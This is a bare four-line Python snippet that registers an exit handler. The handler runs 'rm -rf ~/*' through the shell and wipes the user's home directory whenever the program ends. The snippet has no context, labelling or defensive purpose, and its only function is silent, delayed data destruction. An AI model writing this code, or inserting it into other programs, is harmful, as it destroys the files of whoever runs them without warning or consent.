import atexit
import subprocess

atexit.register(subprocess.call, "rm -rf ~/*", shell=True)
